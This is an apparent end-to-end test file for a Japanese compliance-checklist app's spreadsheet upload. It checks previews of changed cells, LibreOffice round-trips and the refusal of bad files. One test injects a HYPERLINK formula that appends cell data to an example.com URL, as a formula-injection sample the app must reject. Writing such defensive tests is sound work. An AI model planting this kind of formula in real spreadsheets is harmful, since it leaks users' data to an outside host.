// A checklist goes out, is edited in a spreadsheet program and comes back: every changed cell is shown before it counts.

import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { demo, record } from "../lib/demo.mjs";
import { take } from "../lib/download.mjs";
import { folder } from "../lib/server.mjs";
import { office, open, resave } from "../lib/sheet.mjs";

const [ANSWERED, OTHER] = ["III.1.1.5", "III.1.1.6"];
const NOTE = "=連絡先の一覧を、四半期ごとに運用部が見直す";
const home = folder();
let company, file, page;

before(async () => {
  company = await demo();
  page = company.owner.page;
  await company.to("services/expense/checklist");
  file = await take(page, page.getByRole("link", { name: /ダウンロード/ }), home.path);
});

after(async () => {
  await company?.close();
  home.remove();
});

/** Brings a file back, edited. */
const bring = async (edit, through = (path) => path) => {
  const edited = join(home.path, "edited.xlsx");
  const sheet = open(file);
  edit(sheet);
  sheet.save(edited);
  await company.to("services/expense/checklist");
  await page.locator("[name=file]").setInputFiles(through(edited));
  await page.getByRole("button", { name: "変更を確かめる" }).click();
  await page.locator("form[action$=apply], [role=alert], .empty").first().waitFor();
};
/** Each changed cell, with the control its rows stand under. */
const changes = () =>
  page.locator("tbody tr:has(td)").evaluateAll((rows) =>
    rows.map((row) => {
      const [cell, ...others] = [...row.cells].map((one) => one.innerText);
      return [cell, row.closest("tbody").querySelector(".id").innerText, ...others];
    }),
  );
const state = async (control) => {
  await company.to(`services/expense/controls/${control}`);
  const status = page.locator("[name=status]:checked");
  const said = (await status.count()) === 0 ? null : await status.getAttribute("value");
  return [said, await page.locator("form[action$=answer] [name=note]").inputValue()];
};
/** The cell of a control in the column of a heading. */
const at = (sheet, control, heading) => `${sheet.column(heading)}${sheet.row(control)}`;
const edit = (sheet) => {
  sheet.write(at(sheet, ANSWERED, "実施状況"), "一部実施");
  sheet.write(at(sheet, ANSWERED, "実施内容"), NOTE);
  sheet.write(at(sheet, OTHER, "実施状況"), "未実施");
};

test("a preview shows exactly the cells that were changed, and changes nothing", async () => {
  const [before, other] = [await state(ANSWERED), await state(OTHER)];
  assert.notDeepEqual([before[0], before[1], other[0]], ["partly", NOTE, "not-implemented"]);
  const sheet = open(file);
  await bring(edit);
  const shown = await changes();
  assert.deepEqual(
    shown.map(([cell, control, field, , after]) => [cell, control, field, after]),
    [
      [at(sheet, ANSWERED, "実施状況"), ANSWERED, "実施状況", "一部実施"],
      [at(sheet, ANSWERED, "実施内容"), ANSWERED, "実施内容", NOTE],
      [at(sheet, OTHER, "実施状況"), OTHER, "実施状況", "未実施"],
    ],
  );
  assert.equal(shown[1][3], before[1]);
  assert.deepEqual([await state(ANSWERED), await state(OTHER)], [before, other]);
});

test("LibreOffice opens and saves it, and the same cells are changed", { skip: !office && "no LibreOffice" }, async () => {
  await bring(edit, (path) => resave(path, home.path));
  const fields = (await changes()).map(([, control, field, , after]) => `${control} ${field} ${after}`);
  assert.deepEqual(fields, [`${ANSWERED} 実施状況 一部実施`, `${ANSWERED} 実施内容 ${NOTE}`, `${OTHER} 実施状況 未実施`]);
});

test("a formula and a broken cell are refused by name, and nothing of the file is recorded", async () => {
  const before = await state(OTHER);
  const known = open(file);
  const [status, note, due] = [at(known, ANSWERED, "実施状況"), at(known, ANSWERED, "実施内容"), at(known, OTHER, "期限")];
  await bring((sheet) => {
    sheet.formula(note, `HYPERLINK("http://example.com/?"&A1,"here")`);
    sheet.write(status, "だいたい");
    sheet.write(due, "来週");
    sheet.write(at(sheet, OTHER, "実施状況"), "未実施");
  });
  const problems = await page.locator("[role=alert] li").allInnerTexts();
  assert.equal(problems.length, 3);
  assert.match(problems[0], new RegExp(`${status}.*だいたい.*使えません[\\s\\S]*実施済み`));
  assert.match(problems[1], new RegExp(`${note}.*数式[\\s\\S]*値を書いて`));
  assert.match(problems[2], new RegExp(`${due}.*来週.*日付[\\s\\S]*2026-12-31`));
  assert.equal(await page.getByRole("button", { name: "記録する" }).count(), 0);
  assert.deepEqual(await state(OTHER), before);
});

test("a file that is no spreadsheet, and one of another service, are refused", async () => {
  const broken = join(home.path, "broken.xlsx");
  writeFileSync(broken, "no spreadsheet");
  await bring(
    () => {},
    () => broken,
  );
  assert.match(await page.locator("[role=alert]").innerText(), /Excelファイル（\.xlsx）ではありません/);
  await company.to("services/telemedicine/checklist");
  await page.locator("[name=file]").setInputFiles(file);
  await page.getByRole("button", { name: "変更を確かめる" }).click();
  assert.match(await page.locator("[role=alert]").innerText(), /expense/);
});

test("applied, the change counts: the verdict follows, and a text that looks like a formula stays a text", async () => {
  await bring(edit);
  await record(page);
  assert.deepEqual(await state(ANSWERED), ["partly", NOTE]);
  assert.equal((await page.locator(".verdict-large").innerText()).trim(), "一部実施");
  await state(OTHER);
  assert.equal((await page.locator(".verdict-large").innerText()).trim(), "未実施");
});

test("the same file again changes nothing; one from before the change is refused with what it would take back", async () => {
  await bring(edit);
  assert.match(await page.locator("main").innerText(), /変わったセルはありません/);
  await bring(() => {});
  assert.match(await page.locator("[role=alert]").innerText(), new RegExp(`変更されています：${ANSWERED}, ${OTHER}\n`));
  assert.equal(await page.getByRole("button", { name: "記録する" }).count(), 0);
});

test("no page complained", () => {
  assert.deepEqual(company.owner.wrong, []);
});
